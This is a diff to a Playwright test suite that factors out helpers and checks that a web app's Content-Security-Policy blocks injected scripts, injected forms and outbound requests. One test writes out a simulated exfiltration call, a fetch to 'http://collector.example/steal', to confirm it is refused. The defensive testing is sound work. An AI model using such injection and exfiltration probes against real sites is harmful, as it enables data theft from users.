@@ -104,6 +104,22 @@ async function done(t, boundMs) {
   return took;
 }
 
+/** Still responsive: a click opens the settings within a second. */
+async function answersClick(page) {
+  const clicked = Date.now();
+  await page.locator('details.settings summary').click();
+  await page.locator('details.settings[open]').waitFor({ timeout: 1000 });
+  assert.ok(Date.now() - clicked < 1000, 'the page answers a click within a second');
+}
+
+/** The directive of the next CSP violation on the page, or null when none comes within 2 s. */
+function nextViolation(page) {
+  return page.evaluate(() => new Promise((resolve) => {
+    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+    setTimeout(() => resolve(null), 2000);
+  }));
+}
+
 /** Nothing ran, nothing was built from outside text, nothing else went wrong. */
 async function finish(t, { allowErrors = [] } = {}) {
   const state = await t.page.evaluate(() => ({
@@ -244,10 +260,7 @@ test('resolver answer: 1000 MX hosts stay within bounds (done within 6 s)', asyn
   const t = await open({ zone: healthyZone(D, { [D]: { MX: mx } }) });
   await done(t, 2 * SLACK_MS);
   assert.equal(await severity(t.page, 'mx-coverage'), 'fail', '998 hosts are not covered');
-  const clicked = Date.now();
-  await t.page.locator('details.settings summary').click();
-  await t.page.locator('details.settings[open]').waitFor({ timeout: 1000 });
-  assert.ok(Date.now() - clicked < 1000, 'the page answers a click within a second');
+  await answersClick(t.page);
   await finish(t);
 });
 
@@ -278,11 +291,7 @@ test('policy host: a 5 MB answer is cut at 64 KiB + 1 byte, its size reported (d
   // What the app kept of the body: the editor holds the fetched text.
   const kept = await t.page.locator('textarea[name=policy]').inputValue();
   assert.ok(kept.length <= 64 * 1024 + 1, `read ${kept.length} characters, at most 65537`);
-  // Still responsive: a click opens the settings at once.
-  const clicked = Date.now();
-  await t.page.locator('details.settings summary').click();
-  await t.page.locator('details.settings[open]').waitFor({ timeout: 1000 });
-  assert.ok(Date.now() - clicked < 1000, 'the page answers a click within a second');
+  await answersClick(t.page);
   await finish(t);
 });
 
@@ -479,10 +488,7 @@ for (const [name, path, ready] of cspPages) {
     await t.page.locator(ready).waitFor();
     const csp = await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
     assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
-    const violation = t.page.evaluate(() => new Promise((resolve) => {
-      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
-      setTimeout(() => resolve(null), 2000);
-    }));
+    const violation = nextViolation(t.page);
     await t.page.evaluate(() => {
       const s = document.createElement('script');
       s.textContent = 'window.__pwned = 1';
@@ -500,10 +506,7 @@ for (const [name, path, ready] of cspPages) {
     });
     assert.equal(await t.page.evaluate(() => window.__pwnedWrites()), 0, 'the inline handler did not run');
     // connect-src: a page script may not talk to any other host over plain http.
-    const refused = t.page.evaluate(() => new Promise((resolve) => {
-      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
-      setTimeout(() => resolve(null), 2000);
-    }));
+    const refused = nextViolation(t.page);
     const fetched = await t.page.evaluate(() =>
       fetch('http://collector.example/steal').then(() => 'sent', (e) => `refused: ${e.message}`));
     assert.match(fetched, /^refused/);
@@ -523,10 +526,6 @@ test('form-action: the assistant\'s domain form submits to its own page, and to 
   await t.page.locator('form input[name=domain]').waitFor();
   assert.match(await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
     /form-action 'self'/);
-  const violation = () => t.page.evaluate(() => new Promise((resolve) => {
-    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
-    setTimeout(() => resolve(null), 2000);
-  }));
   // The page's own form goes through.
   await t.page.locator('form input[name=domain]').fill(D);
   await t.page.getByRole('button', { name: 'Set up' }).click();
@@ -534,7 +533,7 @@ test('form-action: the assistant\'s domain form submits to its own page, and to 
   assert.equal(new URL(t.page.url()).searchParams.get('domain'), D);
   // A form injected to post elsewhere is refused (last: the blocked navigation stays pending
   // for Playwright).
-  const refused = violation();
+  const refused = nextViolation(t.page);
   await t.page.evaluate(() => {
     const f = document.createElement('form');
     f.method = 'post';
